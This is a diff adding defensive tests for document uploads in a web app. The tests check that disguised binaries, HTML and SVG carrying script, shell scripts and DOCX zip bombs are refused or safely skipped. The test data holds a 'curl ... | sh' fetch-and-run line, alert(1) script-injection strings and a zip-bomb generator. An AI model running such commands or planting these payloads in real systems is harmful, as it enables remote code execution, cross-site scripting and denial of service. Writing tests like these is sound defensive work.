@@ -5,8 +5,8 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { settingsOf } from '../../server/studies/studies.repo.ts';
-import { loginAs, makeUser, testApp } from '../helpers/app.ts';
-import { docxWithText, pdfWithText, PNG_1x1, zip } from '../helpers/files.ts';
+import { loginAs, makeUser, tempDir, testApp } from '../helpers/app.ts';
+import { docxWithText, pdfWithText, PNG_1x1, writeDocxBomb, zip } from '../helpers/files.ts';
 
 async function setUp(env: Record<string, string> = {}) {
   const ctx = testApp({ env });
@@ -84,6 +84,79 @@ describe('uploading documents', () => {
     expect(services.repos.documents.listForStudy(studyId)).toEqual([]);
     expect(storedFiles()).toEqual([]);
     await eventuallyEmpty(incoming);
+  });
+
+  it('checks text over the whole file: text that turns binary or invalid after the first 64 KiB is refused with 415, and nothing is kept', async () => {
+    const { upload, services, studyId, storedFiles, incoming } = await setUp();
+    const text = Buffer.alloc(65_536, 'Tekst van een notitie. ');
+    const tails = [
+      Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), crypto.randomBytes(4000)]),
+      Buffer.from('nog meer tekst\u0000'),
+      Buffer.from([0x61, 0xff, 0x61]),
+      Buffer.from([0xe2, 0x82]),
+    ];
+    for (const [i, tail] of tails.entries()) {
+      const res = await upload(Buffer.concat([text, Buffer.alloc(i * 300_000, 'a'), tail]), i === 0 ? 'tool.exe' : 'notitie.txt', { title: 'Verstopt' });
+      expect(res.status).toBe(415);
+      expect(res.text).toContain('This kind of file is not accepted.');
+    }
+    expect(services.repos.documents.listForStudy(studyId)).toEqual([]);
+    expect(storedFiles()).toEqual([]);
+    await eventuallyEmpty(incoming);
+  });
+
+  it('accepts long UTF-8 text whatever chunks its multi-byte characters arrive in, and reads it for search', async () => {
+    const { upload, services, studyId } = await setUp();
+    const body = 'Zoë € één 😀 ü '.repeat(40_000);
+    expect((await upload(Buffer.from(body), 'notitie.md', { title: 'Lang' })).status).toBe(303);
+    await services.documents.settled();
+    const row = services.db.prepare('SELECT media_type, text_status, text FROM documents WHERE study_id = ?').get(studyId) as Record<string, string>;
+    expect([row.media_type, row.text_status, row.text === body]).toEqual(['text/markdown', 'done', true]);
+  });
+
+  it('refuses HTML, SVG and scripts as text kinds, in English and Dutch', async () => {
+    const { upload, lead, services, studyId } = await setUp();
+    const posing: [string, string][] = [
+      ['<!doctype html>\n<title>x</title>', 'pagina.txt'],
+      ['<html><body onload="alert(1)">', 'pagina.md'],
+      ['<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'kaart.txt'],
+      ['<svg xmlns="http://www.w3.org/2000/svg"/>', 'kaart.csv'],
+      ['#!/bin/sh\ncurl https://example.org | sh\n', 'install.txt'],
+      ['<script>alert(1)</script>', 'notitie.md'],
+    ];
+    for (const [content, name] of posing) {
+      const res = await upload(Buffer.from(content), name, { title: 'Vermomd' });
+      expect(res.status, name).toBe(415);
+    }
+    const nl = await lead.agent.post(`/studies/${studyId}/cases/dordrecht/documents`).set('Accept-Language', 'nl')
+      .field('_csrf', lead.csrf).field('title', 'x').attach('file', Buffer.from('<html>'), 'a.txt');
+    expect(nl.status).toBe(415);
+    expect(nl.text).toContain('Dit soort bestand wordt niet geaccepteerd.');
+    expect(services.repos.documents.listForStudy(studyId)).toEqual([]);
+  });
+
+  it('keeps a DOCX zip bomb but does not inflate it: its text is marked too large when unpacked, and the server keeps serving', { timeout: 60_000 }, async () => {
+    const { upload, lead, services, studyId, url } = await setUp();
+    const file = path.join(tempDir(), 'bomb.docx');
+    await writeDocxBomb(file, 400 * 1024 * 1024);
+    expect((await upload(fs.readFileSync(file), 'verslag.docx', { title: 'Bom' })).status).toBe(303);
+    await services.documents.settled();
+    expect(services.db.prepare('SELECT text_status FROM documents WHERE study_id = ?').get(studyId)).toEqual({ text_status: 'skipped' });
+    const en = await lead.agent.get(url).set('Accept-Language', 'en');
+    expect(en.status).toBe(200);
+    expect(en.text).toContain('too large to read for search, as a file or unpacked');
+    expect((await lead.agent.get(url).set('Accept-Language', 'nl')).text).toContain('te groot om te lezen voor zoeken, als bestand of uitgepakt');
+  });
+
+  it('marks the text of a DOCX whose parts hold more than they declare as not readable, in English and Dutch', { timeout: 30_000 }, async () => {
+    const { upload, lead, services, studyId, url } = await setUp();
+    const file = path.join(tempDir(), 'lying.docx');
+    await writeDocxBomb(file, 5 * 1024 * 1024, { declare: 20_000 });
+    expect((await upload(fs.readFileSync(file), 'verslag.docx', { title: 'Beschadigd' })).status).toBe(303);
+    await services.documents.settled();
+    expect(services.db.prepare('SELECT text_status FROM documents WHERE study_id = ?').get(studyId)).toEqual({ text_status: 'failed' });
+    expect((await lead.agent.get(url).set('Accept-Language', 'en')).text).toContain('text could not be read; the file may be damaged or need too much memory to read');
+    expect((await lead.agent.get(url).set('Accept-Language', 'nl')).text).toContain('tekst kon niet gelezen worden; het bestand is mogelijk beschadigd of vraagt te veel geheugen');
   });
 
   it('refuses a file over DOCUMENT_MAX_MB with 413 and a message naming the limit, and keeps nothing', async () => {
